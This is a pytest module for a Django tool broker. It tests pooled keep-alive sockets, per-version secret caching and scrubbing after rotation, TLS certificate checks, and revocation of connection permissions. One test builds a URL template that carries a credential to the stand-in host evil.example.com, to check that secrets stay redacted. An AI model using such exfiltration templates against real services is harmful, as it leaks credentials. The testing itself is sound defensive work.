"""What the fetch path keeps between calls (issue 13), and why none of it weakens a check.

Keep-alive connections are reused only by the connection (and the secret version) that
opened them, and only after a response read to its end; the decrypted secret and its
scrubber are cached per ciphertext, so a new secret is sent, and scrubbed, on the next
call. Every server here is a real one on 127.0.0.1.
"""

from __future__ import annotations

import datetime
import ipaddress
import json
import ssl
import tempfile
from collections.abc import Iterator, Sequence
from pathlib import Path
from urllib.parse import quote

import pytest
from cryptography import x509
from cryptography.fernet import Fernet
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from django.contrib.auth.models import Group, Permission, User
from django.db import connection as database
from django.test import override_settings
from django.test.utils import CaptureQueriesContext
from guardian.shortcuts import assign_perm, remove_perm

from apps.connections import broker, crypto, netguard
from apps.connections.models import Connection
from apps.connections.permissions import USE, can_use_connection
from apps.connections.scrubbing import REDACTED
from apps.mcp.models import McpServer, McpServerCredential
from apps.mcp.source import endpoint_for
from apps.receipts.models import SigningKey
from apps.tenants.principals import agents_group
from apps.tools.models import Tool
from tests.conftest import Agent, allow
from tests.connections import HTTP, LocalServer, local_server, make_connection, usable
from tests.support.responses import failure, ok_result

pytestmark = pytest.mark.django_db(transaction=True)

FIRST, SECOND = "SECRET-pooled-first-4b1e", "SECRET-pooled-second-9d2c"


@pytest.fixture(autouse=True)
def empty_pool() -> Iterator[None]:
    netguard.POOL.clear()
    yield
    netguard.POOL.clear()


@pytest.fixture
def server() -> Iterator[LocalServer]:
    with local_server(keep_alive=True) as running:
        yield running


@pytest.fixture
def caller(agent: Agent) -> Agent:
    allow(agent.tenant, HTTP, name="http")
    return agent


def connect(agent: Agent, token: str = FIRST, name: str = "local") -> Connection:
    connection = make_connection(
        agent.tenant, name=name, hosts=("127.0.0.1",), private=True, token=token
    )
    return usable(connection, agent.principal)


def call(agent: Agent, connection: Connection, url: str, **args: object) -> object:
    return agent.invoke(
        HTTP, args={"url": url, **args}, connectionId=str(connection.pk), runId="run-pool"
    )


# ---------------------------------------------------------------- keep-alive reuse


def test_calls_through_one_connection_reuse_one_keep_alive_socket(caller, server):
    connection = connect(caller)
    for _ in range(3):
        assert ok_result(call(caller, connection, f"{server.base}/ok"))["status"] == 200
    assert len({seen.peer for seen in server.seen}) == 1
    assert [seen.headers["authorization"] for seen in server.seen] == [f"Bearer {FIRST}"] * 3


def test_a_socket_is_never_shared_between_two_connections_to_the_same_server(caller, server):
    first = connect(caller, FIRST, name="first")
    second = connect(caller, SECOND, name="second")
    for connection in (first, second, first, second):
        ok_result(call(caller, connection, f"{server.base}/ok"))
    tokens_by_socket: dict[int, set[str]] = {}
    for seen in server.seen:
        tokens_by_socket.setdefault(seen.peer, set()).add(seen.headers["authorization"])
    assert sorted(tokens_by_socket.values(), key=sorted) == [
        {f"Bearer {FIRST}"},
        {f"Bearer {SECOND}"},
    ]


def test_a_socket_the_server_closed_is_not_reused_and_the_next_call_succeeds(caller, server):
    connection = connect(caller)
    assert ok_result(call(caller, connection, f"{server.base}/hangup"))["status"] == 200
    assert ok_result(call(caller, connection, f"{server.base}/ok"))["status"] == 200
    assert len({seen.peer for seen in server.seen}) == 2


def test_a_get_on_a_socket_closed_unnoticed_is_sent_again_once_on_a_new_one(
    caller, server, monkeypatch
):
    connection = connect(caller)
    ok_result(call(caller, connection, f"{server.base}/hangup"))
    # The race: the server closes just after the pool looked, so the pool hands it out.
    monkeypatch.setattr(netguard, "_dropped", lambda connection: False)
    assert ok_result(call(caller, connection, f"{server.base}/ok"))["status"] == 200
    assert [seen.path for seen in server.seen] == ["/hangup", "/ok"]
    assert len({seen.peer for seen in server.seen}) == 2


def test_a_post_never_goes_out_on_a_reused_socket(caller, server):
    connection = connect(caller)
    ok_result(call(caller, connection, f"{server.base}/ok"))
    ok_result(call(caller, connection, f"{server.base}/ok/post", method="POST", body="{}"))
    first, post = server.seen
    assert post.method == "POST" and post.peer != first.peer


def test_a_response_cut_at_16_kb_leaves_its_socket_unused(caller, server):
    connection = connect(caller)
    size = broker.MAX_RESPONSE_BYTES * 2
    assert ok_result(call(caller, connection, f"{server.base}/big?size={size}"))["truncated"]
    ok_result(call(caller, connection, f"{server.base}/ok"))
    assert len({seen.peer for seen in server.seen}) == 2


def test_a_socket_whose_response_timed_out_is_closed_not_reused(server):
    policy = netguard.NetworkPolicy(allowed_hosts=["127.0.0.1"], allow_private=True)

    def fetch(path: str, timeout: float = 5) -> netguard.Response:
        return netguard.fetch(
            policy, "GET", f"{server.base}{path}", headers={}, timeout=timeout, pool_scope="s"
        )

    fetch("/ok")
    assert len(netguard.POOL) == 1
    with pytest.raises(TimeoutError):
        fetch("/stall", timeout=0.3)  # on the pooled socket; 10 of 100 bytes, then silence
    assert len(netguard.POOL) == 0
    assert fetch("/ok").status == 200
    first, stalled, last = server.seen
    assert stalled.peer == first.peer and last.peer != stalled.peer


def test_the_pool_keeps_a_bounded_number_of_idle_sockets(caller):
    servers = [local_server(keep_alive=True) for _ in range(3)]
    running = [context.__enter__() for context in servers]
    try:
        netguard.POOL.max_idle = 2
        connection = connect(caller)
        for each in running:
            ok_result(call(caller, connection, f"{each.base}/ok"))
        assert len(netguard.POOL) == 2
        ok_result(call(caller, connection, f"{running[0].base}/ok"))  # the oldest went
        assert len({seen.peer for seen in running[0].seen}) == 2
    finally:
        netguard.POOL.max_idle = netguard.POOL_MAX_IDLE
        for context in servers:
            context.__exit__(None, None, None)


def test_a_pooled_socket_does_not_let_a_refused_address_through(caller, server):
    connection = connect(caller)
    ok_result(call(caller, connection, f"{server.base}/ok"))
    Connection.objects.filter(pk=connection.pk).update(allow_private_network=False)
    message = failure(call(caller, connection, f"{server.base}/ok"))[1]
    assert "private or loopback" in message
    assert len(server.seen) == 1


# ---------------------------------------------------------------- secrets, cached per version


def test_a_new_secret_is_sent_and_scrubbed_on_the_next_call(caller, server):
    connection = connect(caller, FIRST)
    echoed = ok_result(call(caller, connection, f"{server.base}/echo"))["body"]
    assert FIRST not in echoed and REDACTED in echoed

    connection.set_secret(token=SECOND)
    connection.save()
    echoed = ok_result(call(caller, connection, f"{server.base}/echo"))["body"]
    assert json.loads(echoed)["headers"]["Authorization"] == f"Bearer {REDACTED}"
    assert SECOND not in echoed
    first, second = server.seen
    assert second.headers["authorization"] == f"Bearer {SECOND}"
    assert second.peer != first.peer  # the old secret's socket is not the new one's


def rotate_while_the_tool_waits(server: LocalServer, connection: Connection) -> None:
    """The server, once it has the request, rotates the connection's secret before it answers."""

    def rotate() -> None:
        server.on_request = None
        row = Connection.objects.get(pk=connection.pk)
        row.set_secret(token=SECOND)
        row.save()
        database.close()  # the server thread's own database connection

    server.on_request = rotate


def test_a_secret_rotated_while_the_tool_runs_is_still_scrubbed_as_sent(caller, server):
    """Step 10b scrubs the secret the bound capability sent, not the one stored by then."""
    connection = connect(caller, FIRST)
    ok_result(call(caller, connection, f"{server.base}/ok"))  # the first secret is cached
    rotate_while_the_tool_waits(server, connection)
    echoed = ok_result(call(caller, connection, f"{server.base}/echo"))["body"]
    assert server.seen[-1].headers["authorization"] == f"Bearer {FIRST}"  # the old one went
    assert json.loads(echoed)["headers"]["Authorization"] == f"Bearer {REDACTED}"
    assert FIRST not in echoed
    connection.refresh_from_db()
    assert connection.read_secret() == {"token": SECOND}  # the rotation did happen first
    echoed = ok_result(call(caller, connection, f"{server.base}/echo"))["body"]
    assert server.seen[-1].headers["authorization"] == f"Bearer {SECOND}"
    assert SECOND not in echoed and REDACTED in echoed


def test_an_error_quoting_a_secret_rotated_meanwhile_is_scrubbed_as_sent(caller, server):
    connection = connect(caller, FIRST)
    rotate_while_the_tool_waits(server, connection)
    target = f"{server.base}/reflect?to=" + quote("http://{credential}.evil.example.com/", safe="")
    code, message = failure(call(caller, connection, target))
    assert code == "execution"
    assert FIRST.lower() not in message.lower() and REDACTED in message


def test_a_secret_is_decrypted_once_per_version(caller, server, monkeypatch):
    connection = connect(caller)
    ok_result(call(caller, connection, f"{server.base}/ok"))
    decrypted: list[str] = []
    real = crypto.decrypt
    monkeypatch.setattr(crypto, "decrypt", lambda token: decrypted.append(token) or real(token))
    ok_result(call(caller, connection, f"{server.base}/ok"))
    assert decrypted == []
    connection.set_secret(token=SECOND)
    connection.save()
    ok_result(call(caller, connection, f"{server.base}/ok"))
    # The save changed the authorization epoch, so the receipts' signing key (also
    # Fernet-encrypted) is read again at it; of the connection, only the new version.
    signing = set(SigningKey.objects.values_list("private_key_encrypted", flat=True))
    assert [token for token in decrypted if token not in signing] == [connection.secret_encrypted]


def test_an_mcp_servers_credential_is_decrypted_once_per_version(caller, monkeypatch):
    """The MCP source takes a remote server's headers from the same per-version cache."""
    connection = make_connection(caller.tenant, name="mcp", hosts=("mcp.example.com",))
    connection.set_secret(token=FIRST)
    connection.save()
    server = McpServer.objects.create(
        name="remote", transport="http", url="https://mcp.example.com/mcp"
    )
    McpServerCredential.objects.create(server=server, tenant=caller.tenant, connection=connection)

    def headers() -> dict[str, str]:
        return dict(endpoint_for(server, caller.tenant).headers)

    assert headers() == {"Authorization": f"Bearer {FIRST}"}
    decrypted: list[str] = []
    real = crypto.decrypt
    monkeypatch.setattr(crypto, "decrypt", lambda token: decrypted.append(token) or real(token))
    assert headers() == {"Authorization": f"Bearer {FIRST}"}
    assert decrypted == []
    connection.set_secret(token=SECOND)  # rotated: the next call sends the new one
    connection.save()
    assert headers() == {"Authorization": f"Bearer {SECOND}"}
    assert decrypted == [connection.secret_encrypted]


def test_a_cached_secret_goes_when_its_key_is_dropped(caller, server):
    old = Fernet.generate_key()
    try:
        with override_settings(TOOLHUB_ENCRYPTION_KEYS=[old.decode()]):
            crypto._fernet.cache_clear()
            connection = connect(caller)
            ok_result(call(caller, connection, f"{server.base}/ok"))
        with override_settings(TOOLHUB_ENCRYPTION_KEYS=[Fernet.generate_key().decode()]):
            crypto._fernet.cache_clear()
            code, message = failure(call(caller, connection, f"{server.base}/ok"))
    finally:
        crypto._fernet.cache_clear()
    assert code == "execution"
    assert "could not be" in message  # prepared, nor its error message checked
    assert len(server.seen) == 1


def test_the_secret_cache_is_bounded(agent, monkeypatch):
    monkeypatch.setattr(broker, "SECRET_CACHE_SIZE", 2)
    broker.forget_secrets()
    for index in range(3):
        broker.HttpClient(make_connection(agent.tenant, name=f"c{index}"))
    assert len(broker._unsealed) == 2


# ---------------------------------------------------------------- TLS, one shared context


def _certificate(directory: Path, names: Sequence[x509.GeneralName]) -> tuple[Path, Path]:
    key = ec.generate_private_key(ec.SECP256R1())
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "toolhub test")])
    now = datetime.datetime.now(datetime.UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(subject)
        .issuer_name(subject)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(minutes=5))
        .not_valid_after(now + datetime.timedelta(hours=1))
        .add_extension(x509.SubjectAlternativeName(names), critical=False)
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    cert_path, key_path = directory / "cert.pem", directory / "key.pem"
    cert_path.write_bytes(certificate.public_bytes(serialization.Encoding.PEM))
    key_path.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    return cert_path, key_path


@pytest.fixture
def tls_server(monkeypatch) -> Iterator[LocalServer]:
    """HTTPS on 127.0.0.1 with a certificate for that address, which the client trusts."""
    with tempfile.TemporaryDirectory() as directory:
        names = [x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]
        cert_path, key_path = _certificate(Path(directory), names)
        serving = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        serving.load_cert_chain(cert_path, key_path)
        trusting = ssl.create_default_context(cafile=str(cert_path))
        monkeypatch.setattr(netguard, "TLS_CONTEXT", trusting)
        with local_server(keep_alive=True, tls=serving) as running:
            yield running


def test_https_is_verified_and_reuses_its_connection(caller, tls_server):
    connection = connect(caller)
    for _ in range(2):
        result = ok_result(call(caller, connection, f"{tls_server.base}/ok"))
        assert result["url"].startswith("https://")
    assert len({seen.peer for seen in tls_server.seen}) == 1


def test_https_to_a_certificate_for_another_name_is_refused(caller, monkeypatch):
    with tempfile.TemporaryDirectory() as directory:
        cert_path, key_path = _certificate(Path(directory), [x509.DNSName("elsewhere.test")])
        serving = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        serving.load_cert_chain(cert_path, key_path)
        monkeypatch.setattr(
            netguard, "TLS_CONTEXT", ssl.create_default_context(cafile=str(cert_path))
        )
        with local_server(tls=serving) as running:
            message = failure(call(caller, connect(caller), f"{running.base}/ok"))[1]
    assert message == "The request failed: SSLCertVerificationError."
    assert running.seen == []


# ---------------------------------------------------------------- use_connection in one query


def fresh(user: User) -> User:
    return User.objects.get(pk=user.pk)


@pytest.mark.parametrize("route", ["user-global", "group-global", "user-object", "group-object"])
def test_use_connection_answers_like_django_and_guardian_for_every_grant_route(agent, route):
    connection = make_connection(agent.tenant, name="checked")
    other = make_connection(agent.tenant, name="unchecked")
    user = User.objects.create_user("svc-connections")
    group = Group.objects.create(name="connection-users")
    user.groups.add(group)
    assert not can_use_connection(fresh(user), connection)
    holder = user if route.startswith("user") else group
    if route.endswith("global"):
        permission = Permission.objects.get(codename="use_connection")
        if isinstance(holder, User):
            holder.user_permissions.add(permission)
        else:
            holder.permissions.add(permission)
    else:
        assign_perm(USE, holder, connection)
    user = fresh(user)
    assert user.has_perm(USE) or user.has_perm(USE, connection)
    with CaptureQueriesContext(database) as queries:
        assert can_use_connection(user, connection)
    asked = [q["sql"] for q in queries.captured_queries if "authzepoch" not in q["sql"]]
    assert len(asked) <= 1, asked  # besides reading the authorization epoch
    assert can_use_connection(user, other) is route.endswith("global")
    user.is_active = False
    assert not can_use_connection(user, connection)


@pytest.mark.parametrize("revoke", ["object-permission", "group-membership", "global-permission"])
def test_revoking_use_connection_holds_on_the_next_call(caller, server, revoke):
    connection = connect(caller)
    group = agents_group(caller.tenant)
    user = group.user_set.get()
    if revoke == "global-permission":
        remove_perm(USE, group, connection)
        group.permissions.add(Permission.objects.get(codename="use_connection"))
    if revoke == "group-membership":  # execute_tool must not go with the group
        assign_perm("tools.execute_tool", user, Tool.objects.get(pk=HTTP))
    assert ok_result(call(caller, connection, f"{server.base}/ok"))["status"] == 200
    Group.objects.create(name="unrelated")  # an edit elsewhere: the answer is asked again
    assert ok_result(call(caller, connection, f"{server.base}/ok"))["status"] == 200
    if revoke == "object-permission":
        remove_perm(USE, group, connection)
    elif revoke == "group-membership":
        user.groups.remove(group)
    else:
        group.permissions.clear()
    code, message = failure(call(caller, connection, f"{server.base}/ok"))
    assert code == "authz_denied"
    assert message == f"{caller.principal} may not use that connection."
    assert len(server.seen) == 2
